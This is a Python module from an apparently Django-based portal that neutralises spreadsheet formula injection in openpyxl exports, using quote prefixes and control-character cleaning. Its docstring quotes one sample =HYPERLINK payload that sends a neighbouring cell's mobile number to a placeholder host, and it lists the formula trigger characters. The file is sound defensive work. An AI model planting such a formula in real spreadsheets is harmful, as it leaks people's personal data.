"""Cells of every workbook the portal writes, holding data and never a formula.

Whatever a person typed reaches staff's spreadsheets: a sign-up's name, a volunteer's
employer, a team's name in the annual report. Two things go wrong when such text is written
as it is:

- a control character (a bell pasted with a name) cannot be stored in the workbook's XML:
  openpyxl refuses the whole export;
- text beginning with ``=`` is written by openpyxl as a live formula, and text beginning
  with ``+``, ``-``, ``@`` (or their full-width forms ``＝ ＋ － ＠``, or a tab or line break
  before them) becomes one as soon as someone edits the cell or saves the sheet as CSV —
  ``=HYPERLINK("http://x/?"&B2, "点击")`` sends the neighbouring cell's mobile number away
  when clicked (OWASP, “CSV Injection”).

``safe_cell`` writes one value: numbers, dates and booleans as they are, text without
control characters, and text that could be taken for a formula as a string cell marked
with Excel's "quote prefix". That mark is what Excel and WPS set when someone types a
leading apostrophe (``'=1+1``): the cell shows exactly the text typed, without an
apostrophe, is never calculated, and stays text when it is edited. (Writing a real
apostrophe into the text instead would show it to everyone as part of the name.)
``safe_row`` does the same for a row given to ``worksheet.append``. Every writer of a
workbook goes through one of the two.
"""

from datetime import date, datetime, time, timedelta
from decimal import Decimal

from django.utils.functional import Promise
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES

from .textinput import clean_text

# First characters that make a spreadsheet program (or a CSV import) read text as a formula:
# OWASP's list, their full-width forms (a Chinese input method types these), and the
# whitespace that is skipped before them.
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n＝＋－＠")
# openpyxl keeps these as they are; anything else is made text.
PLAIN_TYPES = (int, float, Decimal, bool, date, datetime, time, timedelta)


def safe_value(value):
    """The value a cell may hold: data kept as data, text cleaned of control characters."""
    if value is None or isinstance(value, PLAIN_TYPES):
        return value
    if isinstance(value, Promise):
        value = str(value)
    if not isinstance(value, str):
        value = str(value)
    return clean_text(value)


def looks_like_formula(text: str) -> bool:
    return bool(text) and (text[0] in FORMULA_TRIGGERS or text in ERROR_CODES)


def safe_cell(sheet, value, *, row: int | None = None, column: int | None = None):
    """A cell of ``sheet`` holding ``value`` as data.

    With ``row`` and ``column``, the sheet's own cell at that place (a workbook built in
    memory); without them, a cell for ``sheet.append`` (works in write-only sheets too).
    Style it as any other cell.
    """
    cell = sheet.cell(row=row, column=column) if row is not None else WriteOnlyCell(sheet)
    value = safe_value(value)
    cell.value = value
    if isinstance(value, str) and looks_like_formula(value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def safe_row(sheet, values) -> list:
    """``values`` ready for ``sheet.append``: plain values where that is safe, cells from
    ``safe_cell`` where the text could be taken for a formula."""
    row = []
    for value in values:
        value = safe_value(value)
        row.append(safe_cell(sheet, value) if isinstance(value, str) and looks_like_formula(value) else value)
    return row
